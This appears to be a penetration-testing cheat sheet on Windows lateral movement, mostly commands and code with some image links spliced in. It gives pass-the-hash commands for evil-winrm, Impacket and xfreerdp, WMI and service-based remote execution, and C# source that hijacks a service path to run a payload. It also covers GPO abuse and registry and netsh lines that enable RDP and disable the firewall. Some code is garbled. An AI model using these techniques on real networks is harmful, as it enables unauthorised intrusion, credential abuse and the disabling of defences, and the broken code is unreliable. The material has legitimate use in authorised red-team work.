Lateral Movement



wmic /node:"<computername>" /user:"<domain>\<user>" /password:"<password>" process call create "powershell -enc <cmd>"

SharpWMI /command:"action=exec computername=<computername> command=\"c:\temp\x.exe\""


WMIGrunt <computername> PowerShell
WMICommand <computername> PowerShell

A good way to move laterally is to generate an encoded powershell launcher and launch it via WMICommand.

Impacket <username>:'<password>'@<ip> -hashes :<ntlm hash> administrator@<ip>


evil-winrm -i <ip> -u <domain>/<username> -p <password> -s <scriptdir>
evil-winrm -i <ip> -u <domain>/<username> -H <hash>-s <scriptdir>

Windows native

sc start winrm
Enable-WSManCredSSP -Role "Client" -DelegateComputer "*"

Edit registry:

Computer Configuration > Administrative Templates > System > Credentials Delegation > Allow Delegating Fresh Credentials.
Computer Configuration > Administrative Templates > System > Credentials Delegation > Allow Delegating Fresh Credentials with NTLM only server authentication.
$user = '<user>'
$pass = ConvertTo-SecureString -AsPlainText '<password>' -Force
$cred = New-Object -TypeName System.Management.Automation.PSCredential -ArgumentList $user,$pass
New-PSSession -URI http://<url>:5985/wsman -Authentication CredSSP -Credential $cred
Enter-PSSession -id <id>

Alternatively if we want to get a PowerShell session with the current user on a remote box we can just run:

Enter-PSSession -Computer <computername>


PowerShellRemoting <computername> <cmd>
PowerShellRemoting <computername> <cmd> <domain> <user> <pass>



Impacket: <username>:'<password>'@<ip> -hashes :<ntlm hash> administrator@<ip>


CreateRemoteService<computername> gruntsvc "<name>" c:\temp\x.exeStartRemoteService <computername> gruntsvc
DeleteRemoteService <computername> gruntsvc

Metasploit has its own PSExec module as well.

We can do this in C# in a bit more elegant way, without having to copy a file & register a new service (instead we change to path of an existing one briefly).

using System;
using System.Runtime.InteropServices;

namespace NetPsExec
    class Program[DllImport("advapi32.dll", EntryPoint = "OpenSCManagerW", ExactSpelling = true, CharSet = CharSet.Unicode, SetLastError = true)]
        public static extern IntPtr OpenSCManager(string machineName, string databaseName, uint dwAccess);
        [DllImport("advapi32.dll", SetLastError = true, CharSet = CharSet.Auto)]
        static extern IntPtr OpenService(IntPtr hSCManager, stringlpServiceName, uint dwDesiredAccess);
        [DllImport("advapi32.dll", EntryPoint = "ChangeServiceConfig")]
        [return: MarshalAs(UnmanagedType.Bool)]
        public static extern bool ChangeServiceConfigA(IntPtr hService, uint dwServiceType, int dwStartType, int dwErrorControl, string lpBinaryPathName, string lpLoadOrderGroup, string lpdwTagId, string lpDependencies, string lpServiceStartName, string lpPassword,string lpDisplayName);
        [DllImport("advapi32", SetLastError = true)]
        [return: MarshalAs(UnmanagedType.Bool)]
        public static extern bool StartService(IntPtrhService, int dwNumServiceArgs, string[] lpServiceArgVectors);

        static void Main(string[] args)
            String target = "localhost"; // can be a remote computer name
            IntPtr SCMHandle = OpenSCManager(target, null, 0xF003F);
            string ServiceName ="SensorService"; // can be any service that is not in use and that we can startIntPtr schService = OpenService(SCMHandle, ServiceName, 0xF01FF);
            string payload = "powershell.exe";
            bool bResult = ChangeServiceConfigA(schService, 0xffffffff, 3, 0, payload, null, null, null, null, null, null);
            bResult = StartService(schService, 0, null);

A more advanced Implementation can be found in SCShell which even has a python version and doe some additional steps (like restoring the original path).


This probably the easiest and most comfortable way. On Linux use xfreerdp for credssp.

xfreerdp /u:<username> /p:'<password>' /v:<ip>
xfreerdp /u:<username> /pth:<ntlm hash> /v:<ip>

On Windows we use mstsc.exe. When supplied the /restrictedadmin parameter, the current users Auth will be used without having to enter any creds (Network Logon, does not cache credentials). When supplying credentials, these will always be cached by windows - even after the rdp session has already ended. Restricted admin mode is disabled by default though (controlled by HKLM:\System\CurrentControlSet\Control\Lsa ).

SharpRDP allows to execute commands via RDP on a remote system:

SharpRDP.exe computername=target.domain command="..." username=domain\user password=password exec=cmd

GPO AbuseFind all Principals that can create new GPOs:

Get-DomainObjectAcl -SearchBase "CN=Policies,CN=System,DC=<>,DC=<>" -ResolveGUIDs | ? { $_.ObjectAceType -eq "Group-Policy-Container" } | select ObjectDN, ActiveDirectoryRights, SecurityIdentifier | fl

Find Principals that can write GP-Link attribute on OUs:

PowerShell Get-DomainOU | Get-DomainObjectAcl -ResolveGUIDs | ? { $_.ObjectAceType -eq "GP-Link" -and $_.ActiveDirectoryRights -match "WriteProperty" } | select ObjectDN, SecurityIdentifier | fl

Create GPO

New-GPO -Name 'Another Totally Legit GPO' | New-GPLink -Target 'OU=<>,OU=Workstations,DC=<>,DC=<>'



Invoke commandon remote host

Invoke-Command -ComputerName <target> -Credential $cred -ScriptBlock { whoami }

Enable RDP PTH as Administrator

reg add "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add HKLM\System\CurrentControlSet\Control\Lsa /t REG_DWORD /v DisableRestrictedAdmin /d 0x0 /f
netsh advfirewall setallprofiles state off

Last updated